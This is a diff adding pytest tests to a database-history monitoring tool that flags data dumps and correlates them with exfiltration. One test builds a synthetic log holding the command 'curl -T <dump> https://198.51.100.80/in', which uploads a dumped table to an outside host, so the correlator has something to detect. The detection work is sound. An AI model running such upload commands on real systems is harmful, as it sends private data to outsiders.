@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 import os
 import subprocess
 import sys
@@ -12,7 +13,8 @@ from pathlib import Path
 import pytest
 from core_standin import EQUALS, CoreStandin
 
-from osq_dbwatch.tables import TABLES
+from osq_dbwatch import catalog
+from osq_dbwatch.tables import TABLES, db_client_history
 from osq_dbwatch.tables.db_client_history import MAX_COMMAND_OUT, MAX_FILE_BYTES, decode_octal
 from osq_dbwatch.tables.env import TableEnv
 
@@ -190,3 +192,111 @@ def test_hostile_history_stays_inside_the_time_budget(homes, monkeypatch) -> Non
     rows = _rows(env)
     assert time.monotonic() - started < 3
     assert rows  # what was read in time is kept
+
+
+# ---------------------------------------------------------------------------
+# One list of history files: the catalog's, read by the table and the correlator
+
+
+def _planted_source_file(home: Path, source: catalog.HistorySource) -> Path:
+    """Where a client writes `source` in `home` (a directory source gets a file ending in its suffix)."""
+    if source.suffix:
+        directory = home / source.path
+        directory.mkdir(parents=True, exist_ok=True)
+        return directory / ("mongosh_repl" + source.suffix if source.tool == "mongosh" else "x" + source.suffix)
+    return home / source.path
+
+
+@pytest.fixture
+def one_home_per_source(tmp_path: Path):
+    """A user per catalog history source, each with one dump-like entry in that source's file."""
+    passwd_lines = []
+    planted: dict[str, tuple[catalog.HistorySource, str]] = {}  # user -> (source, output path)
+    for number, source in enumerate(catalog.HISTORY_SOURCES):
+        user = f"u{number}"
+        home = tmp_path / "home" / user
+        home.mkdir(parents=True)
+        passwd_lines.append(f"{user}:x:{2000 + number}:{2000 + number}::{home}:/bin/bash\n")
+        out = f"/tmp/h{number}.csv"
+        _planted_source_file(home, source).write_text(f"select * from t;\nCOPY t TO '{out}';\n")
+        planted[user] = (source, out)
+    (tmp_path / "passwd").write_text("".join(passwd_lines))
+    (tmp_path / "group").write_text("")
+    return TableEnv(passwd_path=str(tmp_path / "passwd"), group_path=str(tmp_path / "group")), planted
+
+
+def test_the_table_reads_every_catalog_history_source(one_home_per_source) -> None:
+    env, planted = one_home_per_source
+    rows = _rows(env)
+    for user, (source, out) in planted.items():
+        mine = [r for r in rows if r["user"] == user]
+        assert [r["line"] for r in mine] == ["1", "2"], source
+        assert all(r["engine"] == source.engine for r in mine)
+        assert mine[1]["dump_like"] == "1" and mine[1]["output_path"] == out
+        # the path the table emits maps back to the source it read
+        assert catalog.history_source_for(mine[0]["file"]) == source
+
+
+def test_table_and_correlator_name_the_same_client_for_every_history_file(one_home_per_source, tmp_path: Path) -> None:
+    """Rows the table emits, fed to the correlator, name the client the catalog registers for that file."""
+    from correlate_scenarios.helpers import correlate, final_by_chain
+    from correlate_scenarios.make_scenarios import MON, Log
+
+    env, planted = one_home_per_source
+    rows = [r for r in _rows(env) if r["dump_like"] == "1"]
+    assert len(rows) == len(catalog.HISTORY_SOURCES)
+    log = Log()
+    t = MON + 10 * 3600
+    for number, row in enumerate(rows):
+        obj = log._head("db_client_history", "db-1", t, 1 + number)
+        obj["diffResults"] = {"removed": [], "added": [row]}
+        log.lines.append(json.dumps(obj))
+        uid = int(row["uid"])
+        log.dump_file("db-1", t - 20, row["output_path"], row["user"], uid)
+        log.transfer("db-1", t + 60, row["user"], uid, f"curl -T {row['output_path']} https://198.51.100.80/in",
+                     "/usr/bin/curl", 9000 + number)
+    path = tmp_path / "history.log"
+    path.write_text("\n".join(log.lines) + "\n")
+    findings = correlate([str(path)], str(tmp_path / "state.sqlite"), str(tmp_path / "out.jsonl"))
+    named: dict[str, str] = {}  # history file -> tool the correlator named
+    for finding in final_by_chain(findings).values():
+        for evidence in finding["evidences"]:
+            data = evidence.get("data", {})
+            if data.get("query") == "db_client_history":
+                named[data["history_file"]] = data["tool"]
+    expected = {r["file"]: planted[r["user"]][0].tool for r in rows}
+    assert named == expected
+
+
+def test_history_source_for() -> None:
+    for source in catalog.HISTORY_SOURCES:
+        home = Path("/home/alice")
+        assert catalog.history_source_for(str(_planted_source_file_name(home, source))) == source
+    assert catalog.history_source_for("/home/a/.psql_history.bak") is None
+    assert catalog.history_source_for("/home/a/.mongosh/notes.txt") is None
+    assert catalog.history_source_for("/home/a/psql_history") is None
+    assert catalog.history_source_for("") is None
+    # mongosh 1.x writes ~/.mongodb/mongosh/mongosh_repl_history; 0.x wrote in ~/.mongosh/
+    assert catalog.history_source_for("/root/.mongodb/mongosh/mongosh_repl_history").tool == "mongosh"  # type: ignore[union-attr]
+    assert catalog.history_source_for("/root/.mongosh/.mongosh_repl_history").tool == "mongosh"  # type: ignore[union-attr]
+    assert catalog.history_source_for("/root/.dbshell").tool == "mongo"  # type: ignore[union-attr]
+
+
+def _planted_source_file_name(home: Path, source: catalog.HistorySource) -> Path:
+    return home / source.path / ("x" + source.suffix) if source.suffix else home / source.path
+
+
+def test_the_table_reads_the_catalog_list() -> None:
+    assert db_client_history.HISTORY_SOURCES is catalog.HISTORY_SOURCES
+
+
+def test_duckdb_history_through_the_catalog_alone(homes) -> None:
+    env, alice, _ = homes
+    (alice / ".duckdb_history").write_text(
+        "SELECT count(*) FROM users;\nCOPY users TO '/tmp/users.csv';\n.once /tmp/o.csv\n"
+        "ATTACH 'postgres:dbname=x password=S3cretDuck' AS pg;\n")
+    rows = [r for r in _rows(env) if r["file"].endswith("/.duckdb_history")]
+    assert [r["engine"] for r in rows] == ["duckdb"] * 4
+    assert [(r["intent"], r["output_path"]) for r in rows[:3]] == [("", ""), ("COPY TO", "/tmp/users.csv"),
+                                                                   (".output", "/tmp/o.csv")]
+    assert "S3cretDuck" not in rows[3]["command"]
